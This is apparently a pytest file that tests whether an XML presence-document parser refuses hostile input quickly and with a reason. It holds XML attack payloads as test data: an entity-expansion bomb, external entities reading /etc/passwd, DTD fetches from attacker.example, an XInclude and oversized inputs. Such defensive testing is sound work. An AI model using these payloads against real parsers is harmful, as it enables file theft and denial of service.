"""XML that is out to hurt: refused in words, and in no time."""

from __future__ import annotations

import time

import pytest

from tests.unit.location.documents import CIRCLE, device, parse, presence

WHOLE = presence(device(CIRCLE))
BOMB = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 10))
ATTRIBUTES = " ".join(f'x{n}="1"' for n in range(200))
NAMESPACES = " ".join(f'xmlns:n{n}="u"' for n in range(200))


def with_doctype(declaration: str, document: str = WHOLE) -> str:
    return document.replace("?>\n", f"?>\n<!DOCTYPE presence {declaration}>\n")


@pytest.mark.parametrize(
    ("document", "fault"),
    [
        (with_doctype(""), "xml-dtd"),
        (with_doctype(f'[<!ENTITY l0 "ha">{BOMB}]', WHOLE.replace("pelapor", "&l9;")), "xml-dtd"),
        (with_doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', WHOLE.replace("mac:", "&x;")), "xml-dtd"),
        (with_doctype('SYSTEM "http://attacker.example/evil.dtd"'), "xml-dtd"),
        (with_doctype('[<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]'), "xml-dtd"),
        (with_doctype('[<!ATTLIST presence entity CDATA "pres:someone">]'), "xml-dtd"),
        (presence("<a>" * 5_000), "xml-too-deep"),
        (presence("<a/>" * 50_000), "xml-too-many-elements"),
        (presence(f"<a {ATTRIBUTES}/>" + "<b>" * 49), "xml-too-deep"),
        (presence(f"<a {NAMESPACES}/>"), "xml-too-many-elements"),
        (presence(f"<a b='{'x' * 300_000}'/>"), "too-large"),
        (presence("x" * 300_000), "too-large"),
        ("<" * 10_000, "xml-broken"),
        ("<presence", "xml-broken"),
        ("<?xml version='1.0'?>", "xml-broken"),
    ],
)
def test_hostile_xml_is_refused_with_a_reason(document: str, fault: str) -> None:
    """No claim, and a way out in the message."""
    took_s = []
    for _ in range(3):  # The collector of garbage may take its time of one, for what other tests have left.
        started = time.thread_time()
        reading = parse(document)
        took_s.append(time.thread_time() - started)
    assert min(took_s) < 0.05
    assert reading.claims == ()
    assert [problem.fault for problem in reading.errors] == [fault]
    assert len(reading.errors[0].message) > 20


def test_an_entity_that_nobody_declared_is_not_made_up() -> None:
    """What was whole before it is kept."""
    reading = parse(WHOLE.replace("mac:1234567890ab", "&nbsp;"))
    assert [problem.fault for problem in reading.errors] == ["xml-broken"]
    assert reading.claims[0].identity.device_id is None
    assert "xml-broken-off" in reading.claims[0].flags


def test_a_processing_instruction_and_an_xinclude_are_not_followed() -> None:
    """They are read over."""
    included = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    reading = parse(WHOLE.replace("<dm:device", f"<?php evil?>{included}<dm:device"))
    assert len(reading.claims) == 1


def test_many_good_locations_are_not_all_kept() -> None:
    """Fifty are enough for one document."""
    assert len(parse(presence(device(CIRCLE) * 70)).claims) == 50
